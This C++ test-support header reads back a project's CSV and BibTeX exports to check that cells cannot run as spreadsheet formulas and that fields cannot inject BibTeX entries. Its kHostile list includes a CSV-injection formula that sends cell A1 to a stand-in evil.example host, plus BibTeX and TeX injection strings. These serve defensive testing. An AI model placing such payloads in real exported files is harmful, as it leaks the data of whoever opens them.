// Reading back what the project's CSV and BibTeX writers wrote, as a spreadsheet or a BibTeX
// parser would (issue 21, items 7 and 8): the writers' round-trip tests and the libFuzzer target
// fuzz/writers_fuzzer.cpp share it (the reports' Table: tests/reports/table_read_back_util.h).
// Independent of the writers: an RFC 4180 reader, and a BibTeX reader that counts braces the way
// BibTeX does (every brace counts, even after a backslash).
#pragma once

#include <cstddef>
#include <set>
#include <stdexcept>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "archive/cite.h"
#include "archive/listing.h"
#include "common/csv.h"

namespace mancala::test_support {

// Texts a hostile source could hold: formulas, quotes, separators, line breaks, TeX.
inline const std::vector<std::string> kHostile = {
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB",
    "\rCR",
    "'=already guarded?",
    "''+twice",
    "-",
    "=",
    "'",
    "-3000",
    "+0.093",
    "-1.5e-3",
    "12.5%",
    "a,b",
    "say \"hi\"",
    "two\nlines",
    "crlf\r\nline",
    "}, title = {Injected title}",
    "{unbalanced",
    "back\\slash \\end{document}",
    "100% & $5 #1 a_b ^ ~ < >",
    "Smith and Jones",
    "AND",
    "others",
    "Toğızqumalaq, Тоғызқұмалақ",
    ""};

// The rows of RFC 4180 text whose lines end in `line_end` ("\r\n" or "\n"). Throws
// std::runtime_error for a stray or unclosed quote or a missing final line end.
inline std::vector<std::vector<std::string>> parse_csv(std::string_view text,
                                                       std::string_view line_end) {
  std::vector<std::vector<std::string>> rows;
  std::vector<std::string> row;
  std::string field;
  size_t i = 0;
  while (i < text.size()) {
    if (text[i] == '"') {
      for (++i;; ++i) {
        if (i >= text.size()) throw std::runtime_error("csv: unclosed quote");
        if (text[i] == '"') {
          if (i + 1 < text.size() && text[i + 1] == '"') {
            field += '"';
            ++i;
          } else {
            ++i;
            break;
          }
        } else {
          field += text[i];
        }
      }
    } else {
      while (i < text.size() && text[i] != ',' && text.substr(i, line_end.size()) != line_end) {
        if (text[i] == '"') throw std::runtime_error("csv: quote inside an unquoted field");
        if (text[i] == '\r' || text[i] == '\n') throw std::runtime_error("csv: bare line break");
        field += text[i++];
      }
    }
    row.push_back(std::move(field));
    field.clear();
    if (i < text.size() && text[i] == ',') {
      ++i;
      if (i == text.size()) throw std::runtime_error("csv: no line end after the last field");
      continue;
    }
    if (text.substr(i, line_end.size()) != line_end)
      throw std::runtime_error("csv: a field goes on after its closing quote");
    i += line_end.size();
    rows.push_back(std::move(row));
    row.clear();
  }
  if (!row.empty()) throw std::runtime_error("csv: no line end after the last row");
  return rows;
}

// One BibTeX entry as read: its type, key, and fields in order (values without their outer
// braces, as written).
struct BibEntry {
  std::string type, key;
  std::vector<std::pair<std::string, std::string>> fields;
};

// The entries of BibTeX text of the form "@type{key,\n  name = {value},\n ...}\n". A value's
// braces are counted as BibTeX counts them; throws std::runtime_error for anything else.
inline std::vector<BibEntry> parse_bibtex(std::string_view text) {
  std::vector<BibEntry> entries;
  size_t i = 0;
  const auto fail = [&](const std::string& what) {
    throw std::runtime_error("bibtex: " + what + " at byte " + std::to_string(i));
  };
  const auto skip_space = [&] {
    while (i < text.size() && (text[i] == ' ' || text[i] == '\n')) ++i;
  };
  const auto word = [&] {
    std::string out;
    while (i < text.size() && text[i] != '{' && text[i] != ',' && text[i] != ' ' &&
           text[i] != '=' && text[i] != '\n' && text[i] != '}')
      out += text[i++];
    return out;
  };
  while (true) {
    skip_space();
    if (i == text.size()) break;
    if (text[i] != '@') fail("expected @");
    ++i;
    BibEntry entry;
    entry.type = word();
    if (i >= text.size() || text[i] != '{') fail("expected { after the type");
    ++i;
    entry.key = word();
    while (true) {
      skip_space();
      if (i < text.size() && text[i] == '}') {
        ++i;
        break;
      }
      if (i >= text.size() || text[i] != ',') fail("expected , or }");
      ++i;
      skip_space();
      if (i < text.size() && text[i] == '}') {
        ++i;
        break;
      }
      std::string name = word();
      skip_space();
      if (i >= text.size() || text[i] != '=') fail("expected = after " + name);
      ++i;
      skip_space();
      if (i >= text.size() || text[i] != '{') fail("expected { to open " + name);
      const size_t start = ++i;
      for (int depth = 1; depth > 0; ++i) {
        if (i >= text.size()) fail("unbalanced braces in " + name);
        depth += text[i] == '{' ? 1 : text[i] == '}' ? -1 : 0;
      }
      entry.fields.emplace_back(name, std::string(text.substr(start, i - 1 - start)));
    }
    entries.push_back(std::move(entry));
  }
  return entries;
}

// The text a BibTeX value stands for: the inverse of archive::bibtex_escape (its LaTeX forms of
// \ { } % & $ # _ ^ ~ < > back to the characters). Throws std::runtime_error for a command or
// brace bibtex_escape never writes.
inline std::string bibtex_unescape(std::string_view value) {
  static const std::pair<std::string_view, char> kForms[] = {{"\\textbackslash{}", '\\'},
                                                             {"\\textbraceleft{}", '{'},
                                                             {"\\textbraceright{}", '}'},
                                                             {"\\textless{}", '<'},
                                                             {"\\textgreater{}", '>'},
                                                             {"\\^{}", '^'},
                                                             {"\\~{}", '~'},
                                                             {"\\%", '%'},
                                                             {"\\&", '&'},
                                                             {"\\$", '$'},
                                                             {"\\#", '#'},
                                                             {"\\_", '_'}};
  std::string out;
  for (size_t i = 0; i < value.size();) {
    if (value[i] == '\\') {
      bool known = false;
      for (const auto& [form, c] : kForms) {
        if (value.substr(i, form.size()) == form) {
          out += c;
          i += form.size();
          known = true;
          break;
        }
      }
      if (!known)
        throw std::runtime_error("bibtex: unknown command in '" + std::string(value) + "'");
      continue;
    }
    if (value[i] == '{' || value[i] == '}' || value[i] == '\r' || value[i] == '\n' ||
        value[i] == '\t')
      throw std::runtime_error("bibtex: a raw brace or line break in '" + std::string(value) + "'");
    out += value[i++];
  }
  return out;
}

// `text` as bibtex_escape leaves its whitespace: each CR, LF or tab becomes a space unless a space
// is already there.
inline std::string bibtex_spaces(std::string_view text) {
  std::string out;
  for (const char c : text) {
    if (c == '\r' || c == '\n' || c == '\t') {
      if (out.empty() || out.back() != ' ') out += ' ';
    } else {
      out += c;
    }
  }
  return out;
}

// A name list split as BibTeX splits it: at the word "and" (any case) between whitespace at brace
// level 0.
inline std::vector<std::string> split_bibtex_names(std::string_view value) {
  std::vector<std::string> names;
  std::string current;
  int depth = 0;
  for (size_t i = 0; i < value.size(); ++i) {
    const char c = value[i];
    depth += c == '{' ? 1 : c == '}' ? -1 : 0;
    const auto lower = [&](size_t at) {
      const char x = value[at];
      return (x >= 'A' && x <= 'Z') ? static_cast<char>(x - 'A' + 'a') : x;
    };
    if (depth == 0 && (c == ' ' || c == '\t') && i + 4 < value.size() && lower(i + 1) == 'a' &&
        lower(i + 2) == 'n' && lower(i + 3) == 'd' &&
        (value[i + 4] == ' ' || value[i + 4] == '\t')) {
      names.push_back(current);
      current.clear();
      i += 4;
      continue;
    }
    current += c;
  }
  names.push_back(current);
  return names;
}

// The parts of one BibTeX name "Family, Given" split at the commas of brace level 0, each without
// one pair of braces around the whole part.
inline std::vector<std::string> bibtex_name_parts(std::string_view name) {
  std::vector<std::string> parts;
  std::string current;
  int depth = 0;
  for (const char c : name) {
    depth += c == '{' ? 1 : c == '}' ? -1 : 0;
    if (depth == 0 && c == ',') {
      parts.push_back(current);
      current.clear();
      continue;
    }
    current += c;
  }
  parts.push_back(current);
  for (std::string& part : parts) {
    while (!part.empty() && part.front() == ' ') part.erase(0, 1);
    while (!part.empty() && part.back() == ' ') part.pop_back();
    if (part.size() >= 2 && part.front() == '{' && part.back() == '}') {
      int level = 0;
      bool whole = true;
      for (size_t i = 0; i + 1 < part.size(); ++i) {
        level += part[i] == '{' ? 1 : part[i] == '}' ? -1 : 0;
        whole = whole && level > 0;
      }
      if (whole) part = part.substr(1, part.size() - 2);
    }
  }
  return parts;
}

// Whether a cell as a spreadsheet reads it could run as a formula: it begins with = + - @ tab or
// CR and is not a plain number. An apostrophe in front makes it text.
inline bool runs_as_formula(std::string_view cell) {
  if (cell.empty()) return false;
  const char c = cell.front();
  return (c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r') &&
         !csv_plain_number(cell);
}

// What is wrong with `csv` (Table::to_csv of a table whose header is `header` and whose rows hold
// the text `rows`), or "": it must parse, no cell may run as a formula, and each cell, its guard
// removed, must be the text given.
inline std::string csv_round_trip_error(const std::string& csv, std::string_view line_end,
                                        const std::vector<std::vector<std::string>>& expected) {
  std::vector<std::vector<std::string>> rows;
  try {
    rows = parse_csv(csv, line_end);
  } catch (const std::exception& e) {
    return e.what();
  }
  if (rows.size() != expected.size()) return "csv: " + std::to_string(rows.size()) + " rows";
  for (size_t r = 0; r < rows.size(); ++r) {
    if (rows[r].size() != expected[r].size())
      return "csv: row " + std::to_string(r) + " has " + std::to_string(rows[r].size()) + " cells";
    for (size_t c = 0; c < rows[r].size(); ++c) {
      if (runs_as_formula(rows[r][c])) return "csv: a formula: " + rows[r][c];
      if (csv_unguard(rows[r][c]) != expected[r][c])
        return "csv: '" + rows[r][c] + "' for '" + expected[r][c] + "'";
    }
  }
  return "";
}

// `evidence search --format csv` of one record read back: its text fields as given.
inline std::string hits_csv_round_trip_error(const archive::EvidenceRecord& record) {
  const std::string csv = archive::hits_csv({archive::SearchHit{record, {}, {}}}, false);
  std::vector<std::vector<std::string>> rows;
  try {
    rows = parse_csv(csv, "\r\n");  // RFC 4180, as every CSV (common/csv.h, CsvWriter)
  } catch (const std::exception& e) {
    return e.what();
  }
  if (rows.size() != 2) return "csv: " + std::to_string(rows.size()) + " rows";
  for (const std::string& cell : rows[1]) {
    if (runs_as_formula(cell)) return "csv: a formula: " + cell;
  }
  const std::vector<std::pair<int, const std::string*>> text = {
      {0, &record.id},     {1, &record.game},     {2, &record.type},  {3, &record.location},
      {14, &record.rules}, {15, &record.content}, {16, &record.notes}};
  for (const auto& [column, value] : text) {
    if (static_cast<size_t>(column) >= rows[1].size()) return "csv: too few cells";
    if (csv_unguard(rows[1][static_cast<size_t>(column)]) != *value)
      return "csv: column " + rows[0][static_cast<size_t>(column)] + ": '" +
             rows[1][static_cast<size_t>(column)] + "' for '" + *value + "'";
  }
  return "";
}

// A URL or DOI as the BibTeX writer must leave it: the bytes that would break a verbatim field
// ({ } \, spaces and control characters) percent-encoded, the rest as given.
inline std::string expected_bibtex_url(std::string_view url) {
  static constexpr char kHex[] = "0123456789ABCDEF";
  std::string out;
  for (const char c : url) {
    const auto byte = static_cast<unsigned char>(c);
    if (c == '{' || c == '}' || c == '\\' || byte <= ' ' || byte == 0x7F) {
      out += '%';
      out += kHex[byte >> 4];
      out += kHex[byte & 15];
    } else {
      out += c;
    }
  }
  return out;
}

// What is wrong with archive::bibtex of one CSL `item`, or "": one entry with a key of the allowed
// characters, no field twice, no field it was not given, and each field reading back as the text
// given (titles in their second braces, every author one name, URL and DOI encoded).
inline std::string bibtex_round_trip_error(const archive::Json& item) {
  const std::string text = archive::bibtex(archive::Json::array({item}));
  std::vector<BibEntry> entries;
  try {
    entries = parse_bibtex(text);
  } catch (const std::exception& e) {
    return std::string(e.what()) + " in\n" + text;
  }
  if (entries.size() != 1) return std::to_string(entries.size()) + " entries in\n" + text;
  const BibEntry& entry = entries[0];
  if (entry.key.empty() ||
      entry.key.find_first_not_of("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
                                  "0123456789-_.:/+") != std::string::npos)
    return "key '" + entry.key + "'";
  const auto given = [&](const char* key) {
    return item.contains(key) && item[key].is_string() ? item[key].get<std::string>() : "";
  };
  std::set<std::string> seen;
  try {
    for (const auto& [name, value] : entry.fields) {
      if (!seen.insert(name).second) return "field " + name + " twice in\n" + text;
      std::string expected;
      std::string got = value;
      if (name == "title" || name == "journal" || name == "booktitle" || name == "howpublished" ||
          name == "publisher" || name == "organization") {
        if (got.size() < 2 || got.front() != '{' || got.back() != '}')
          return name + " without its second braces: " + got;
        got = bibtex_unescape(got.substr(1, got.size() - 2));
        expected = bibtex_spaces(given(name == "title" ? "title"
                                       : name == "publisher" || name == "organization"
                                           ? "publisher"
                                           : "container-title"));
      } else if (name == "url" || name == "doi") {
        expected = expected_bibtex_url(given(name == "url" ? "URL" : "DOI"));
      } else if (name == "author") {
        const std::vector<std::string> names = split_bibtex_names(value);
        if (names.size() != item["author"].size())
          return "author: " + std::to_string(names.size()) + " names in '" + value + "'";
        for (size_t i = 0; i < names.size(); ++i) {
          const std::vector<std::string> parts = bibtex_name_parts(names[i]);
          const archive::Json& n = item["author"][i];
          const std::string family = n.value("family", ""), given_name = n.value("given", "");
          if (parts.size() != (given_name.empty() ? 1u : 2u))
            return "author " + std::to_string(i) + ": '" + names[i] + "'";
          if (bibtex_unescape(parts[0]) != bibtex_spaces(family))
            return "author " + std::to_string(i) + ": family '" + parts[0] + "'";
          if (!given_name.empty() && bibtex_unescape(parts[1]) != bibtex_spaces(given_name))
            return "author " + std::to_string(i) + ": given '" + parts[1] + "'";
        }
        continue;
      } else if (name == "note" || name == "publisher" || name == "organization" ||
                 name == "volume" || name == "address") {
        got = bibtex_unescape(value);
        expected = bibtex_spaces(given(name == "note"      ? "note"
                                       : name == "volume"  ? "volume"
                                       : name == "address" ? "publisher-place"
                                                           : "publisher"));
      } else if (name == "number" || name == "pages" || name == "year" || name == "type") {
        bibtex_unescape(value);  // only checked to hold nothing raw
        continue;
      } else {
        return "a field it was not given: " + name + " in\n" + text;
      }
      if (got != expected) return name + ": '" + got + "' for '" + expected + "'";
    }
  } catch (const std::exception& e) {
    return std::string(e.what()) + " in\n" + text;
  }
  return "";
}

}  // namespace mancala::test_support
